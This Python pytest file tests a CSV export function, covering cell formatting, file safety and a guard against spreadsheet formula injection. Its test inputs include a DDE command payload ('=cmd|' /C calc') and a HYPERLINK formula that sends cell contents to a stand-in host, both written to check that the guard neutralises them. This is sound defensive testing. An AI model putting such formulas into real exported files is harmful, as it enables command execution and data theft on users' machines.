"""The CSV: its form, its cells, how it is written, and what is left when something goes wrong."""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import stat
import subprocess
import sys
import tempfile
import time
import tracemalloc
import uuid
import weakref
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, datetime, timedelta, timezone
from datetime import time as time_of_day
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from iterable import export
from iterable.export import new_file
from iterable_client import export_results_to_csv

ROOT = Path(__file__).resolve().parent.parent.parent
HEADER = "id,email,first_name,last_name,plan_type,candidate,page,device,browser,location,event_time"
ALEX: dict[str, Any] = {
    "id": 1,
    "email": "delgadoalex10@gmail.com",
    "first_name": "Alex",
    "last_name": "Delgado",
    "plan_type": "pro",
    "candidate": "Alex Delgado",
    "page": "pricing",
    "device": "desktop",
    "browser": "Chrome",
    "location": "San Francisco CA",
    "event_time": datetime(2026, 1, 13, 8, 45, 12),
}
ALEX_AS_CSV = "1,delgadoalex10@gmail.com,Alex,Delgado,pro,Alex Delgado,pricing,desktop,Chrome,San Francisco CA,"
ALEX_AS_CSV += "2026-01-13 08:45:12"


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def cell_of(value: Any, folder: Path) -> str:
    """What the CSV has for a value."""
    path = folder / f"{uuid.uuid4()}.csv"
    export_results_to_csv([{"before": "x", "value": value}], str(path))
    header, (before, cell) = rows_of(path)
    assert (header, before) == (["before", "value"], "x")
    return cell


# Form -----------------------------------------------------------------------------------------------------------------


def test_row_of_the_specification_is_written_as_it_stands_there(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert export_results_to_csv([ALEX], str(path)) == str(path)
    assert path.read_bytes() == f"{HEADER}\r\n{ALEX_AS_CSV}\r\n".encode()


@pytest.mark.parametrize(
    ("records", "columns", "lines"),
    [
        ([], None, [HEADER]),
        ([], ("a", "b"), ["a,b"]),
        ([{"b": 1, "a": 2}], None, ["b,a", "1,2"]),
        ([{"b": 1, "a": 2}, {"a": 4, "b": 3}], None, ["b,a", "1,2", "3,4"]),
        ([{"b": 1, "a": 2}], ("a", "b", "c"), ["a,b,c", "2,1,"]),
        ([{"a": 1, "b": 2}, {"a": 3}, {}], None, ["a,b", "1,2", "3,", ","]),
        ([{"a": None}, {"a": ""}], None, ["a", '""', '""']),  # no empty line, which a reader would skip
        ([{"a": 1}], ["a", "=b"], ["a,'=b", "1,"]),
    ],
)
def test_header_and_order_of_columns(
    tmp_path: Path, records: list[dict[str, Any]], columns: list[str] | None, lines: list[str]
) -> None:
    path = tmp_path / "out.csv"
    export_results_to_csv(records, str(path), columns=columns)
    assert path.read_text(encoding="utf-8").splitlines() == lines


@pytest.mark.parametrize("columns", [None, ("a",)])
def test_key_without_a_column_is_refused_and_leaves_no_file(tmp_path: Path, columns: tuple[str, ...] | None) -> None:
    records: list[dict[str, Any]] = [{"a": 1}, {"a": 1, "c": 2, "b": 3}]
    with pytest.raises(ValueError, match=r"^Record 2 has 'b', 'c', for which the CSV has no column\.$"):
        export_results_to_csv(records, str(tmp_path / "out.csv"), columns=columns)
    assert list(tmp_path.iterdir()) == []


# Cells ----------------------------------------------------------------------------------------------------------------


class Text(str):
    """A database driver's own kind of text."""


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-5, "-5"),
        (2**70, str(2**70)),
        (-0.25, "-0.25"),
        (1e300, "1e+300"),
        (Decimal("1.10"), "1.10"),
        (Decimal("-1E+2"), "-1E+2"),
        (datetime(2026, 1, 13, 8, 45, 12), "2026-01-13 08:45:12"),
        (datetime(2026, 1, 13, 8, 45, 12, 5000, timezone.utc), "2026-01-13 08:45:12.005000+00:00"),
        (date(2026, 1, 13), "2026-01-13"),
        (time_of_day(8, 45), "08:45:00"),
        ("Zoë, 🎉", "Zoë, 🎉"),
        ('say "hi"', 'say "hi"'),
        ("two\nlines", "two\nlines"),
        ("two\r\nlines\rthree", "two\r\nlines\rthree"),
        (" padded ", " padded "),
        (b"caf\xc3\xa9", "café"),
        (b"\xff\x00", "\\xff\\x00"),
        (bytearray(b"x"), "x"),
        (memoryview(b"x"), "x"),
        ("a\0b", "a\\x00b"),
        ("\ud83d", "\\ud83d"),
        ({"a": ["é", None, date(2026, 1, 13)]}, '{"a": ["é", null, "2026-01-13"]}'),
        ([{date(2026, 1, 13): {Decimal("1.5"): 2}}], '[{"2026-01-13": {"1.5": 2}}]'),  # a map of DuckDB
        ([1, 2], "[1, 2]"),
        (uuid.UUID(int=7), "00000000-0000-0000-0000-000000000007"),
        (Text("x"), "x"),
    ],
)
def test_value_becomes_a_cell(tmp_path: Path, value: Any, cell: str) -> None:
    assert cell_of(value, tmp_path) == cell


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=", "+", "-", "@", "=é", "-5\n", "--5", "-1e5"),
        *("＝1+1", "＋1", "－1", "＠SUM(A1)"),
        *("+44 20 7946 0000", "-x", "+=1", "\tx", Text("=1"), b"=1", '=HYPERLINK("http://x/?"&A1)'),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_guarded(tmp_path: Path, text: str | bytes) -> None:
    plain = text.decode() if isinstance(text, bytes) else text
    assert cell_of(text, tmp_path) == "'" + plain


@pytest.mark.parametrize(
    "text", ["-5", "+5", "-1.5", "+1,5", "+442079460000", "'=1", " =1", "a=1", "1-1", "a@example.com", "\\x00=1"]
)
def test_text_that_is_no_formula_is_left_alone(tmp_path: Path, text: str) -> None:
    assert cell_of(text, tmp_path) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"),
        ('x;"=1+1";"@a"', """x;"'=1+1";"'@a\""""),
        ("x\t+1+1", "x\t'+1+1"),
        ("x\r\n＝1+1", "x\r\n'＝1+1"),
        ("\t=1", "'\t'=1"),
        ("=1;=2", "'=1;'=2"),
        ("52.5;-13.4", "52.5;-13.4"),
        ("-1,5;+2;-3;", "'-1,5;+2;-3;"),
        ("a; =1", "a; =1"),
        ("a;b=1;c", "a;b=1;c"),
    ],
)
def test_what_another_separator_makes_a_formula_of_is_guarded(tmp_path: Path, text: str, cell: str) -> None:
    assert cell_of(text, tmp_path) == cell
    assert cell_of(cell, tmp_path) == cell


some_text = st.one_of(st.text(), st.text(st.sampled_from('a1.;"=-@＝\t\r\n'), max_size=8))


@settings(max_examples=200)
@given(st.lists(st.tuples(some_text, some_text), min_size=1, max_size=8))
def test_any_text_comes_back_from_the_csv(pairs: list[tuple[str, str]]) -> None:
    def expected(text: str) -> str:
        text = text.replace("\0", "\\x00")
        parts = re.split(r'([;\t\r\n]"*)', text)  # each of which may begin a cell
        return "'" * text.startswith(("\t", "\r", "\n")) + "".join(
            f"'{part}" if part.startswith(tuple("=+-@＝＋－＠")) and not is_number(part) else part for part in parts
        )

    def is_number(part: str) -> bool:
        return re.fullmatch(r"[+-]?\d+([.,]\d+)?", part) is not None

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.csv"
        export_results_to_csv(({"a": a, "b": b} for a, b in pairs), str(path))
        assert rows_of(path)[1:] == [[expected(a), expected(b)] for a, b in pairs]


# Names ----------------------------------------------------------------------------------------------------------------


class Noon(datetime):
    """A `datetime` whose now() is what a test says, and which `sleep` moves."""

    moment = datetime(2026, 1, 13, 14, 31, 22, 250_000)

    @classmethod
    def now(cls, tz: Any = None) -> Any:
        return cls.moment


@pytest.fixture
def noon(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> type[Noon]:
    """It is 14:31:22 in the working directory `tmp_path`, and time passes only by sleeping."""

    def sleep(seconds: float) -> None:
        Noon.moment += timedelta(seconds=seconds)

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(Noon, "moment", Noon.moment)
    monkeypatch.setattr(export, "datetime", Noon)
    monkeypatch.setattr(time, "sleep", sleep)
    monkeypatch.setattr(time, "time", lambda: Noon.moment.timestamp())
    return Noon


def test_default_name_is_the_local_time_in_the_working_directory(noon: type[Noon], tmp_path: Path) -> None:
    assert export_results_to_csv([]) == "query_results_20260113_143122.csv"
    assert [each.name for each in tmp_path.iterdir()] == ["query_results_20260113_143122.csv"]


def test_second_export_in_the_same_second_waits_for_the_next_one(noon: type[Noon], tmp_path: Path) -> None:
    export_results_to_csv([{"a": 1}])
    assert export_results_to_csv([{"a": 2}]) == "query_results_20260113_143123.csv"
    assert noon.moment == datetime(2026, 1, 13, 14, 31, 23)
    assert [rows_of(each)[1] for each in sorted(tmp_path.iterdir())] == [["1"], ["2"]]


def test_symlink_planted_at_the_default_name_is_passed_by(noon: type[Noon], tmp_path: Path) -> None:
    planted = tmp_path / "query_results_20260113_143122.csv"
    planted.symlink_to(tmp_path / "target")
    assert export_results_to_csv([]) == "query_results_20260113_143123.csv"
    assert (planted.is_symlink(), (tmp_path / "target").exists()) == (True, False)


# Files ----------------------------------------------------------------------------------------------------------------


def test_existing_file_is_not_touched(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("precious")
    with pytest.raises(FileExistsError, match=re.escape(str(path))):
        export_results_to_csv([ALEX], str(path))
    assert (path.read_text(), list(tmp_path.iterdir())) == ("precious", [path])


@pytest.mark.parametrize("has_target", [True, False])
def test_planted_symlink_is_neither_followed_nor_replaced(tmp_path: Path, has_target: bool) -> None:
    target, path = tmp_path / "target", tmp_path / "out.csv"
    if has_target:
        target.write_text("precious")
    path.symlink_to(target)
    with pytest.raises(FileExistsError, match=re.escape(str(path))):
        export_results_to_csv([ALEX], str(path))
    assert (path.is_symlink(), target.exists() and target.read_text()) == (True, has_target and "precious")


def appear_in_between(path: Path) -> Iterator[dict[str, Any]]:
    yield {"a": 1}
    path.write_text("precious")
    yield {"a": 2}


@pytest.mark.parametrize("has_links", [True, False])
def test_file_that_appears_in_the_meantime_is_not_touched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, has_links: bool
) -> None:
    if not has_links:
        refuse_links(monkeypatch)
    path = tmp_path / "out.csv"
    with pytest.raises(FileExistsError, match=re.escape(str(path))):
        export_results_to_csv(appear_in_between(path), str(path))
    assert (path.read_text(), list(tmp_path.iterdir())) == ("precious", [path])


def refuse_links(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file system without hard links, such as exFAT."""

    def link(*args: Any, **kwargs: Any) -> None:
        raise OSError(errno.EPERM, os.strerror(errno.EPERM))

    monkeypatch.setattr(os, "link", link)


def test_file_system_without_hard_links_will_do(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    refuse_links(monkeypatch)
    path = tmp_path / "out.csv"
    export_results_to_csv([{"a": 1}], str(path))
    assert (path.read_bytes(), list(tmp_path.iterdir())) == (b"a\r\n1\r\n", [path])


@pytest.mark.parametrize("umask", [0, 0o022, 0o077])
def test_file_is_private_whatever_the_umask(tmp_path: Path, umask: int) -> None:
    modes: list[int] = []

    def watch() -> Iterator[dict[str, Any]]:
        yield ALEX
        modes.extend(stat.S_IMODE(each.stat().st_mode) for each in tmp_path.iterdir())

    before = os.umask(umask)
    try:
        export_results_to_csv(watch(), str(tmp_path / "out.csv"))
    finally:
        os.umask(before)
    assert modes == [0o600]
    assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == 0o600


class StoppedError(BaseException):
    """Stands for KeyboardInterrupt, which would stop the tests."""


def break_off(after: int, problem: BaseException) -> Iterator[dict[str, Any]]:
    for number in range(after):
        yield {"a": number}
    raise problem


@pytest.mark.parametrize("after", [0, 1, 100_000])
@pytest.mark.parametrize("problem", [LookupError("the database has gone"), StoppedError("stopped")])
def test_exception_in_the_records_passes_through_and_leaves_nothing(
    tmp_path: Path, after: int, problem: BaseException
) -> None:
    with pytest.raises(type(problem), match=str(problem)):
        export_results_to_csv(break_off(after, problem), str(tmp_path / "out.csv"))
    assert list(tmp_path.iterdir()) == []


def test_full_disk_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fsync(descriptor: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", fsync)
    with pytest.raises(OSError, match="No space left on device"):
        export_results_to_csv([ALEX], str(tmp_path / "out.csv"))
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_told(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        export_results_to_csv([ALEX], str(tmp_path / "missing" / "out.csv"))
    assert list(tmp_path.iterdir()) == []


def test_new_file_appears_when_its_block_has_ended(tmp_path: Path) -> None:
    path = tmp_path / "results.json"
    with new_file(path) as file:
        file.write("é\n\ud800")
        assert not path.exists()
    assert path.read_bytes() == "é\n\\ud800".encode()


def test_killed_export_leaves_no_file_under_the_name(tmp_path: Path) -> None:
    program = (
        "import os, signal\n"
        "from iterable_client import export_results_to_csv\n"
        "def records():\n"
        "    yield from ({'a': 'x' * 100} for _ in range(10_000))\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "export_results_to_csv(records(), 'out.csv')\n"
    )
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", program], cwd=tmp_path, env=environment, check=False)
    assert done.returncode == -9
    assert not (tmp_path / "out.csv").exists()


# Streaming ------------------------------------------------------------------------------------------------------------


class Row(dict[str, Any]):
    """A record that tells when it is forgotten."""


def test_formula_is_guarded_also_in_a_column_of_mixed_values(tmp_path: Path) -> None:
    values = ["plain", None, 17, 1.5, Decimal("2.50"), "=1+1", "nul\0", *["x"] * 200, "@x", None, -5, "-5", "-x"]
    export_results_to_csv([{"a": value, "b": "y"} for value in values], str(tmp_path / "out.csv"))
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        cells = [row[0] for row in csv.reader(file)][1:]
    assert cells == ["plain", "", "17", "1.5", "2.50", "'=1+1", "nul\\x00", *["x"] * 200, "'@x", "", "-5", "-5", "'-x"]


def test_record_with_an_unknown_key_is_numbered_also_far_down(tmp_path: Path) -> None:
    records = [{"a": 1}] * 350 + [{"a": 1, "b": 2}]
    with pytest.raises(ValueError, match=r"^Record 351 has 'b', for which the CSV has no column\.$"):
        export_results_to_csv(records, str(tmp_path / "out.csv"))


def test_records_without_any_column_are_empty_lines(tmp_path: Path) -> None:
    export_results_to_csv([{}, {}], str(tmp_path / "out.csv"))
    assert (tmp_path / "out.csv").read_bytes() == b"\r\n" * 3


def test_record_may_be_one_that_is_filled_anew_each_time(tmp_path: Path) -> None:
    def records() -> Iterator[dict[str, int]]:
        record: dict[str, int] = {}
        for record["a"] in range(3):
            yield record

    export_results_to_csv(records(), str(tmp_path / "out.csv"))
    assert (tmp_path / "out.csv").read_bytes() == b"a\r\n0\r\n1\r\n2\r\n"


def test_records_are_taken_one_by_one_written_on_the_way_and_forgotten(tmp_path: Path) -> None:
    alive: set[int] = set()
    most_alive = 0
    sizes: list[int] = []

    def records() -> Iterator[Row]:
        nonlocal most_alive
        for number in range(200_000):
            row = Row(number=number, text="0123456789")
            alive.add(number)
            weakref.finalize(row, alive.discard, number).atexit = False
            most_alive = max(most_alive, len(alive))
            yield row
            del row
            if number % 50_000 == 49_999:
                sizes.extend(each.stat().st_size for each in tmp_path.iterdir())

    export_results_to_csv(records(), str(tmp_path / "out.csv"))
    least = [number * len("49999,0123456789\r\n") - 100_000 for number in (50_000, 100_000, 150_000, 200_000)]
    assert [size > bytes_ for size, bytes_ in zip(sizes, least, strict=True)] == [True] * 4
    assert most_alive <= 3  # the first, the one before, and this one
    assert (tmp_path / "out.csv").read_bytes().count(b"\n") == 200_001


def test_memory_does_not_grow_with_the_records(tmp_path: Path) -> None:
    with traced() as peaks:
        for count in (1000, 30_000):
            tracemalloc.reset_peak()
            export_results_to_csv((dict(ALEX) for _ in range(count)), str(tmp_path / f"{count}.csv"))
            peaks.append(tracemalloc.get_traced_memory()[1])
    assert peaks[1] < peaks[0] + 100_000


@contextmanager
def traced() -> Iterator[list[int]]:
    tracemalloc.start()
    try:
        yield []
    finally:
        tracemalloc.stop()


# By the block ---------------------------------------------------------------------------------------------------------


def by_column(rows: list[tuple[Any, ...]]) -> list[tuple[Any, ...]]:
    return list(zip(*rows, strict=True))


@pytest.mark.parametrize(
    "rows",
    [
        [(1, "ada", None), (2.5, "", Decimal("1.10"))],
        [("'=1", "1-1", "-"[1:])],
        [(), ()],
        [],
    ],
)
def test_harmless_rows_are_the_same_object(rows: list[tuple[Any, ...]]) -> None:
    assert export.harmless_rows(rows, by_column(rows)) is rows


def test_block_with_a_cell_that_may_do_harm_is_guarded_and_the_rest_is_as_it_was() -> None:
    rows = [(1, "ada", True), (2, "=1+1", None), (3, "-5", b"x")]
    guarded = list(export.harmless_rows(rows, by_column(rows)))
    assert guarded == [(1, "ada", "true"), (2, "'=1+1", ""), (3, "-5", "x")]


@pytest.mark.parametrize(("verbatim", "cell"), [(False, "'=1"), (True, "=1")])
def test_blocks_are_guarded_unless_they_are_verbatim(tmp_path: Path, verbatim: bool, cell: str) -> None:
    path = tmp_path / "out.csv"
    blocks: list[list[Any]] = [[("a", "=1")], [["b", "'=1"], ["c", None]], []]
    export.write_csv(path, ["=x", "'=y"], blocks, verbatim=verbatim)
    assert rows_of(path) == [["'=x", "'=y"], ["a", cell], ["b", "'=1"], ["c", ""]]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


risky_cells = st.one_of(
    st.text(st.sampled_from("a,;\"=+-@\t\r\n\0' é"), max_size=4),
    st.sampled_from([None, 5, -5, 1.5, float("nan"), Decimal("-1.50"), True, b"x", date(2026, 1, 13), [1]]),
)


@settings(deadline=None)
@example([("a,", "b")])
@example([("a", "b\n"), ("c", "d")])
@example([("",), (None,)])
@example([("a", "-5"), ("@", "\0")])
@example([("a;=1", "b"), ("c", "d")])
@given(st.integers(1, 3).flatmap(lambda width: st.lists(st.tuples(*[risky_cells] * width), min_size=1, max_size=4)))
def test_text_of_a_block_is_what_the_csv_module_writes(rows: list[tuple[Any, ...]]) -> None:
    written, expected = io.StringIO(newline=""), io.StringIO(newline="")
    csv.writer(expected).writerows(export.harmless_rows(rows, by_column(rows)))
    block = export.csv_block(rows, by_column(rows))
    if isinstance(block, str):
        written.write(block)
    else:
        csv.writer(written).writerows(block)
    assert written.getvalue() == expected.getvalue()


def test_block_without_anything_special_is_text(tmp_path: Path) -> None:
    rows = [(1, "ada@example.com", None, 1.5, "a-b"), (2, "bob@example.com", "x", Decimal("2.50"), "é =")]
    block = export.csv_block(rows, by_column(rows))
    assert block == "1,ada@example.com,,1.5,a-b\r\n2,bob@example.com,x,2.50,é =\r\n"
    export.write_csv(tmp_path / "out.csv", list("abcde"), [block, rows], verbatim=True)
    assert rows_of(tmp_path / "out.csv")[1:] == [[str(c) if c is not None else "" for c in row] for row in rows] * 2


def test_blocks_that_break_off_leave_no_file(tmp_path: Path) -> None:
    def blocks() -> Iterator[list[tuple[int]]]:
        yield [(1,)]
        raise LookupError("the database has gone")

    for verbatim in (False, True):
        with pytest.raises(LookupError, match="the database has gone"):
            export.write_csv(tmp_path / "out.csv", ["a"], blocks(), verbatim=verbatim)
    assert list(tmp_path.iterdir()) == []


def test_row_of_another_length_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="shorter"):
        export.write_csv(tmp_path / "out.csv", ["a", "b"], [[(1, 2), (3,)]])
